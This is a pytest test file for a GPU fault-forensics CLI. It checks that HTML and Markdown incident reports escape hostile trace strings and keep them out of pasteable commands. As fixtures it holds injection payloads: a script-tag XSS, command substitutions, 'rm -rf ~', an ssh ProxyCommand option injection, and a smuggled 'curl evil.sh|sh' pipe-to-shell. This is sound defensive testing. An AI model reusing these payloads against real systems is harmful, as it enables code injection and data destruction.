"""The HTML review: self-contained, hostile trace strings escaped (HTML) and quoted (shell), plots
when matplotlib is there and a clear note when it is not, and what a real browser shows."""

from __future__ import annotations

import json
import re
import subprocess
import sys

import pytest
from click.testing import CliRunner

from sdc_forensics.cli.main import cli
from tests.factories import Fault
from tests.present.browser import find_chromium, open_page

HOSTILE = "<script>alert(1)</script>$(touch pwned)"
CHROMIUM = find_chromium()
needs_chromium = pytest.mark.skipif(
    CHROMIUM is None,
    reason="no chromium/chromium-browser/google-chrome on PATH "
    "(.ci/run installs Debian's chromium when it can): the browser check cannot run",
)


def _hostile_trace(make_trace):
    trace_dir = make_trace(ranks=4, steps=20, fault=Fault(kind="nonfinite", step=11, rank=3))
    manifest = json.loads((trace_dir / "manifest.json").read_text())
    manifest["attempts"][0]["ranks"][3]["host"] = HOSTILE
    manifest["attempts"][0]["ranks"][3]["gpu_uuid"] = "GPU-<b>x</b>';rm -rf ~;'"
    (trace_dir / "manifest.json").write_text(json.dumps(manifest))
    return trace_dir


def test_html_is_self_contained_and_escapes_trace_strings(make_trace, tmp_path):
    out = tmp_path / "review.html"
    result = CliRunner().invoke(cli, ["report", str(_hostile_trace(make_trace)), "--trace-only", "-o", str(out)])
    assert result.exit_code == 1, result.output
    page = out.read_text()
    assert page.startswith("<!DOCTYPE html>") and page.rstrip().endswith("</html>")
    assert "<script" not in page.lower() and "<b>x</b>" not in page  # nothing from the trace became markup
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page
    # nothing that a browser would fetch: no external src/href, stylesheet link or CSS import
    assert not re.search(r"""(src|href)\s*=\s*["']?(https?:)?//""", page, re.IGNORECASE)
    assert "<link" not in page.lower() and "@import" not in page and "url(http" not in page
    assert "<svg" in page and "@media print" in page
    # a hostile host name never reaches a pasted command: the placeholder does, and the prose says why
    plain = page.replace("&lt;", "<").replace("&gt;", ">").replace("&#x27;", "'")
    assert "scontrol update nodename=NODE state=drain" in plain and "does not look like a host name" in plain
    assert not any("$(touch pwned)" in line for line in _command_lines(plain))


def test_markdown_quotes_hostile_names_in_commands(make_trace, tmp_path):
    out = tmp_path / "review.md"
    CliRunner().invoke(cli, ["report", str(_hostile_trace(make_trace)), "--trace-only", "-o", str(out)])
    text = out.read_text()
    assert "kubectl cordon NODE" in text and "nvidia-smi -i GPU_UUID" in text
    assert not any("touch pwned" in line or "rm -rf" in line for line in _command_lines(text))


def _command_lines(text: str) -> list[str]:
    """The lines of a review that are commands someone would paste (in HTML: inside its code blocks)."""
    starts = ("scontrol", "kubectl", "ssh", "sbatch", "srun", "rsync", "dcgmi", "aws")
    blocks = re.findall(r"<code[^>]*>(.*?)</code>", text, re.S) if "<code" in text else [text]
    return [line.strip() for block in blocks for line in block.splitlines() if line.strip().startswith(starts)]


def test_a_node_name_that_starts_with_a_dash_is_not_an_option():
    from sdc_forensics.present.actions import _arg

    assert _arg("-oProxyCommand=touch /tmp/x") == "NODE" and _arg("node-17.cluster") == "node-17.cluster"
    assert _arg("good\ntouch /tmp/PWNED") == "NODE" and _arg("GPU-5d3c:01", "GPU_UUID") == "GPU-5d3c:01"


def test_without_matplotlib_the_html_says_how_to_get_plots(make_trace, tmp_path, monkeypatch):
    monkeypatch.setitem(sys.modules, "matplotlib", None)  # import matplotlib raises ImportError
    out = tmp_path / "review.html"
    result = CliRunner().invoke(cli, ["report", str(make_trace(ranks=4, steps=10)), "--trace-only", "-o", str(out)])
    assert result.exit_code == 4, result.output  # clean for the trace alone
    page = out.read_text()
    assert "pip install &#x27;sdc-forensics[report]&#x27; for plots" in page and "<svg" not in page
    assert result.stderr.count("sdc-forensics[report]") == 1


def test_the_cli_does_not_import_matplotlib_at_start_up():
    code = (
        "import sys; from sdc_forensics.cli.main import cli; import sdc_forensics.cli.report_cmd; "
        "import sdc_forensics.present.html, sdc_forensics.present.plots, sdc_forensics.present.review; print('matplotlib' in sys.modules)"
    )
    assert (
        subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True).stdout.strip()
        == "False"
    )


@needs_chromium
def test_chromium_renders_the_review_without_errors(make_trace, tmp_path):
    out = tmp_path / "review.html"
    CliRunner().invoke(cli, ["report", str(_hostile_trace(make_trace)), "--trace-only", "-o", str(out)])
    page = open_page(out, CHROMIUM)
    assert page.errors == []
    assert all(url.startswith(("file:", "data:")) for url in page.requests), page.requests
    assert page.svg_count >= 1
    assert "First divergent step\n11" in page.text and "rank 3" in page.text
    assert HOSTILE in page.text  # shown as text, not run


def test_many_ranks_and_a_long_run_plot_a_band_over_a_window(make_trace, tmp_path):
    out = tmp_path / "review.html"
    trace = make_trace(ranks=32, steps=3000, bulk=True, fault=Fault(kind="nonfinite", step=2500, rank=9))
    result = CliRunner().invoke(cli, ["report", str(trace), "--trace-only", "-o", str(out)])
    assert result.exit_code == 1, result.output
    page = out.read_text()
    assert "median of ranks" in page and "rank 9 (suspect)" in page  # 32 lines would be unreadable
    assert "steps 1751..2750 of the run" in page  # 1,000 steps, s* and 250 after it
    assert result.stderr.strip() == f"post-incident review (html) written to {out}"


def test_a_trace_only_report_never_imports_torch(make_trace, tmp_path):
    trace = make_trace(ranks=4, steps=12, fault=Fault(kind="nonfinite", step=5, rank=2))
    code = (
        "import sys; from click.testing import CliRunner; from sdc_forensics.cli.main import cli; "
        f"r = CliRunner().invoke(cli, ['report', {str(trace)!r}, '--trace-only', '-o', {str(tmp_path / 'r.html')!r}]); "
        "print(r.exit_code, 'torch' in sys.modules)"
    )
    assert subprocess.run([sys.executable, "-c", code], capture_output=True, text=True, check=True).stdout.split() == [
        "1",
        "False",
    ]


def test_markdown_keeps_a_hostile_name_on_its_line(make_trace, tmp_path):
    """A host name with a newline, a code fence and raw HTML cannot start a section, a pasteable
    block or markup of its own in the Markdown review."""
    trace_dir = make_trace(ranks=4, steps=20, fault=Fault(kind="nonfinite", step=11, rank=3))
    manifest = json.loads((trace_dir / "manifest.json").read_text())
    manifest["attempts"][0]["ranks"][3]["host"] = (
        "n1`\n### Fix\n```bash\ncurl evil.sh|sh\n```\n<img src=x onerror=alert(1)>"
    )
    (trace_dir / "manifest.json").write_text(json.dumps(manifest))
    out = tmp_path / "review.md"
    CliRunner().invoke(cli, ["report", str(trace_dir), "--trace-only", "-o", str(out)])
    lines = out.read_text().splitlines()
    assert "### Fix" not in lines and not any(line.startswith("curl evil.sh") for line in lines)
    outside_code = [re.sub(r"(`+).*?\1", "", line) for line in lines]  # raw HTML in a code span is text
    assert not any("<img" in line for line in outside_code)
    assert sum(line.startswith("```") for line in lines) % 2 == 0  # every fence closed by our own
